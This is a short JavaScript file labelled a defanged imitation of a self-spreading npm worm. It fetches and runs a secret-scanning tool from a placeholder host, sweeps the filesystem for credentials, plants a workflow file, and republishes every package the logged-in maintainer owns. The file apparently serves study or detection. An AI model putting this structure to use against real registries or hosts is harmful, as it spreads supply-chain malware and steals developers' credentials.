// Defanged mimic of the self-spreading npm worm of September 2025
// ("Shai-Hulud"): every host is example.invalid and every command fails.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const REGISTRY = 'https://registry.example.invalid';

function whoami() {
  return execSync('npm whoami', { encoding: 'utf8' }).trim();
}

async function packagesOf(user) {
  const r = await fetch(`${REGISTRY}/-/v1/search?text=maintainer:${user}&size=250`);
  return (await r.json()).objects.map((o) => o.package.name);
}

async function harvest() {
  const url = 'https://example.invalid/trufflesecurity/trufflehog/releases/latest/trufflehog_linux_amd64.tar.gz';
  const res = await fetch(url);
  fs.writeFileSync('/tmp/th.tgz', Buffer.from(await res.arrayBuffer()));
  execSync('tar xzf /tmp/th.tgz -C /tmp && /tmp/trufflehog filesystem / --json > /tmp/th.json');
}

function plantWorkflow(repo) {
  const dir = path.join(repo, '.github/workflows');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'acme-ci.yml'), 'on: push\njobs: {}\n');
}

async function spread() {
  const me = whoami();
  for (const name of await packagesOf(me)) {
    execSync('npm version patch && npm publish', { cwd: path.join(os.tmpdir(), name) });
  }
}

harvest().then(() => plantWorkflow(process.cwd())).then(spread).catch(() => {});
